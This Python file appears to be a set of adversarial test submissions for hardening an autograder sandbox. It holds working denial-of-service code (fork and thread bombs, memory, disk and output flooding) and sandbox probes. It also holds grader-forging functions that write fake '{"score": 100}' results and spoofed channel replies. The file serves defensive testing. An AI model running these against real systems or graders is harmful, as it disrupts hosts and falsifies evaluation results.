"""A submission that attacks, one attack a function; tests send it as `diffusion/attack.py`.

It is never imported by the tests themselves.
"""

import contextlib
import gc
import importlib
import mmap
import os
import signal
import socket
import struct
import threading
import time
from pathlib import Path

import torch

MIB = 2**20
KEPT = []


def leave_without_a_word():
    os._exit(0)


def crash():
    os.kill(os.getpid(), signal.SIGSEGV)


def loop_and_ignore_signals():
    for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
        signal.signal(number, signal.SIG_IGN)
    while True:
        pass


def fork_bomb():
    while True:
        with contextlib.suppress(OSError):
            os.fork()


def thread_bomb():
    for _ in range(100):
        threading.Thread(target=threading.Event().wait, daemon=True).start()


def hoard_private_memory():
    return float(torch.ones(1024 * MIB // 4).sum())


def hoard_shared_memory():
    for _ in range(64):
        KEPT.append(mmap.mmap(-1, 16 * MIB))
        KEPT[-1].write(b"x" * (16 * MIB))
        time.sleep(0.01)
    time.sleep(20)


def hoard_page_tables():
    """Read a page here and there of memory that is never there."""
    reserved = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000  # MAP_NORESERVE
    KEPT.append(mmap.mmap(-1, 2**40, flags=reserved, prot=mmap.PROT_READ))
    for place in range(0, 2**40, 2 * MIB):
        KEPT[-1][place]
    time.sleep(20)


def hoard_in_sockets():
    for _ in range(12):
        if os.fork() == 0:
            for _ in range(100):
                KEPT.append(socket.socketpair())
                KEPT[-1][0].setblocking(False)
                with contextlib.suppress(OSError):
                    while True:
                        KEPT[-1][0].send(b"x" * 65536)
            time.sleep(20)
    time.sleep(20)


def hoard_while_nobody_asks():
    threading.Timer(0.5, hoard_shared_memory).start()
    return 1


def priority_when_memory_runs_out():
    """Try to be spared; return what came of it."""
    own = Path("/proc/self/oom_score_adj")
    with contextlib.suppress(OSError):
        own.write_text("0")
    return int(own.read_text())


def hoard_memory_in_children():
    for _ in range(8):
        if os.fork() == 0:
            KEPT.append(b"x" * (100 * MIB))
            time.sleep(20)
    time.sleep(20)


def fill_the_disk():
    written = 0
    for folder in {os.environ["TMPDIR"], "/dev/shm", "/var/tmp", "/tmp"}:
        for number in range(80):
            try:
                Path(folder, f"hog-{number}").write_bytes(b"x" * MIB)
                written += 1
            except OSError:
                break
    time.sleep(1)
    return written


def flood_the_output():
    for _ in range(2000):
        os.write(1, b"noise " * 1000)
    os.write(2, b"x" * 10**7 + b"last \x1b[31m words")
    return 1


def write_everywhere():
    for descriptor in range(256):
        with contextlib.suppress(OSError):
            os.write(descriptor, b'{"score": 100}\n')
    return 1


def forge_a_reply():
    header = b'{"dict":[["token","0"],["changed",[]],["kind","evidence"],'
    header += b'["values",{"dict":[["answer",100]]}]]}'
    os.write(_reply_fd(), _frame(header))
    os._exit(0)


def reply_twice():
    os.write(_reply_fd(), _frame(b"null") + _frame(b"null"))
    time.sleep(5)


def speak_later():
    threading.Timer(0.2, os.write, (_reply_fd(), b"DFS1")).start()
    return 1


def drip():
    for byte in _frame(b"[" * 4000):
        os.write(_reply_fd(), bytes([byte]))
        time.sleep(0.02)


def announce_too_much():
    os.write(_reply_fd(), struct.pack("<4sIQ", b"DFS1", 10, 2**50))
    time.sleep(20)


def stop_listening():
    threading.Timer(0.1, os.kill, (os.getpid(), signal.SIGSTOP)).start()
    return 1


def close_everything():
    os.closerange(0, 256)
    time.sleep(20)


def hostile_text():
    return "\x1b[2J\u202egnp" + "\ud800" + "A" * 10**6


def reach(paths):
    """Name what can be had: a socket, the autograder, any of the paths."""
    had = []
    with contextlib.suppress(OSError):
        socket.create_connection(("127.0.0.1", 22), timeout=1)
        had.append("network")
    with contextlib.suppress(OSError):
        socket.socket(socket.AF_UNIX)
        had.append("socket")
    with contextlib.suppress(ImportError):
        importlib.import_module("autograder")
        had.append("autograder")
    for path in paths:
        with contextlib.suppress(OSError):
            list(Path(path).iterdir()) if Path(path).is_dir() else Path(path).read_bytes()
            had.append(path)
    return " ".join(had)


def leave_a_daemon():
    """Detach in the usual way; return the uid to look for."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(600)
        os._exit(0)
    return os.getuid()


def _reply_fd():
    from sandbox.worker.channel import Channel

    return next(found for found in gc.get_objects() if isinstance(found, Channel)).reply_fd


def _frame(header):
    return struct.pack("<4sIQ", b"DFS1", len(header), 0) + header
